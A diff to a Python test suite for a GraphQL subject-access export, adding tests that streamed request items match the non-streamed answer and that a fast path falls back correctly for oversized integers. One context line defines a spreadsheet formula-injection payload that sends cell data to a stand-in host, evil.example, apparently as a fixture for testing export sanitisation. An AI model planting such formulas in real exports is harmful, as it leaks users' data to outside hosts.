@@ -22,6 +22,8 @@ from models import AuditEvent, ConsentPurpose, ConsentRecord, Contact, Traveler,
 from models.enums import RequestStatus
 from resolvers import deletion, export
 from resolvers.clock import now
+from schema.fastpath import export_stream
+from schema.fastpath.plans import SLOW
 from tests.conftest import SECRET
 from tests.world import World, gid, make_world
 
@@ -37,6 +39,15 @@ EXPORT = """query($id: ID!) { subjectAccessExport(contactId: $id) {
 STREAMED = """query($id: ID!) { subjectAccessExport(contactId: $id) {
   contact { firstName } requests @stream(initialCount: 1) { id destination travelers { firstName } }
 } }"""
+# Items the fast path builds from their rows (schema.fastpath.export_stream), with aliases and __typename ...
+STREAMED_ROWS = """query($id: ID!) { subjectAccessExport(contactId: $id) { requests @stream(initialCount: 1) {
+  __typename key: id status destination departureDate returnDate travelerCount budgetCents createdAt lastActivityAt
+  notes advisor { __typename id name email role active } travelers { __typename firstName lastName birthDate } } } }"""
+# ... and items it leaves to the objects: a field it does not compile, a fragment.
+STREAMED_OBJECTS = """query($id: ID!) { subjectAccessExport(contactId: $id) { requests @stream(initialCount: 1) {
+  id notes noteFindings { field } travelers { firstName } } } }"""
+STREAMED_FRAGMENT = """query($id: ID!) { subjectAccessExport(contactId: $id) { requests @stream(initialCount: 1) {
+  ... on TravelRequest { id destination advisor { name } } } } }"""
 LINKS = "query($id: ID!) { subjectAccessExport(contactId: $id) { csvUrl jsonUrl } }"
 MULTIPART = "multipart/mixed;deferSpec=20220824, application/json"
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1)'
@@ -320,6 +331,68 @@ async def test_requests_stream_part_by_part(client, world: World, person: Person
     assert [i["id"] for i in items] == [gid("TravelRequest", r.id) for r in person.requests]
     assert [i["destination"] for i in items] == ["Séville", "Kyōto", "Reykjavík"]
     assert items[0]["travelers"] == [{"firstName": "Zoé"}, {"firstName": "Noël"}]
+
+
+@pytest.mark.parametrize(
+    ("query", "from_rows"), [(STREAMED_ROWS, True), (STREAMED_OBJECTS, False), (STREAMED_FRAGMENT, False)]
+)
+async def test_streamed_items_are_the_plain_answers_items(
+    client, world: World, person: Person, monkeypatch, fast_execution: bool, query: str, from_rows: bool
+) -> None:
+    """Whatever the initial count and however the chunks fall, the streamed items are those of the same export
+    without @stream; the fast path builds them from their rows when it knows their selection."""
+    monkeypatch.setattr(export, "ROW_CHUNK", 2)  # a chunk left half given at the initial count, and a last one
+    built, build = [], export_stream.build
+
+    def counted(*args: Any) -> Any:
+        built.append(build(*args))
+        return built[-1]
+
+    monkeypatch.setattr(export_stream, "build", counted)
+    plain = await client.post(query.replace(" @stream(initialCount: 1)", ""), {"id": person.id}, world.tokens["dpo"])
+    expected = plain["data"]["subjectAccessExport"]["requests"]
+    assert len(expected) == 3 and "errors" not in plain
+    for initial in (0, 1, 2, 3, 5):
+        built.clear()
+        text = query.replace("initialCount: 1", f"initialCount: {initial}")
+        response = await post_multipart(client, text, {"id": person.id}, world.tokens["dpo"])
+        # Every item within the initial count: one plain answer.
+        parts = multipart_parts(response) if "multipart" in response.headers["content-type"] else [response.json()]
+        items = parts[0]["data"]["subjectAccessExport"]["requests"]
+        items += [item for part in parts[1:] for entry in part.get("incremental", []) for item in entry["items"]]
+        assert items == expected, initial
+        assert not [part for part in parts if "errors" in json.dumps(part)]
+        assert len(built) == (max(3 - initial, 0) if from_rows and fast_execution else 0)
+        assert SLOW not in built
+
+
+async def test_an_item_the_fast_path_cannot_build_takes_the_object_path(
+    client, world: World, person: Person, database_url: str, monkeypatch, fast_execution: bool
+) -> None:
+    """A budget beyond GraphQL's Int (SQLite keeps any integer): that item is built as an object, its field null with
+    its error, as without @stream; the other items are built from their rows."""
+    if not database_url.startswith("sqlite"):
+        pytest.skip("a PostgreSQL integer column holds no such budget")
+    await TravelRequest.filter(id=person.requests[1].id).update(budget_cents=2**40)
+    built, build = [], export_stream.build
+
+    def counted(*args: Any) -> Any:
+        built.append(build(*args))
+        return built[-1]
+
+    monkeypatch.setattr(export_stream, "build", counted)
+    query = STREAMED_ROWS.replace("initialCount: 1", "initialCount: 0")
+    plain = await client.post(query.replace(" @stream(initialCount: 0)", ""), {"id": person.id}, world.tokens["dpo"])
+    parts = multipart_parts(await post_multipart(client, query, {"id": person.id}, world.tokens["dpo"]))
+    entries = [entry for part in parts[1:] for entry in part.get("incremental", [])]
+    assert [item for entry in entries for item in entry["items"]] == plain["data"]["subjectAccessExport"]["requests"]
+    assert plain["data"]["subjectAccessExport"]["requests"][1]["budgetCents"] is None
+    errors = [(e["message"], e["path"]) for entry in entries for e in entry.get("errors", [])]
+    assert errors == [(e["message"], e["path"]) for e in plain["errors"]]
+    assert errors and errors[0][1] == ["subjectAccessExport", "requests", 1, "budgetCents"]
+    assert len(built) == (3 if fast_execution else 0)
+    if fast_execution:
+        assert built[1] is SLOW and SLOW not in (built[0], built[2])
 
 
 async def test_errors_mid_stream_are_masked(client, world: World, person: Person, monkeypatch) -> None:
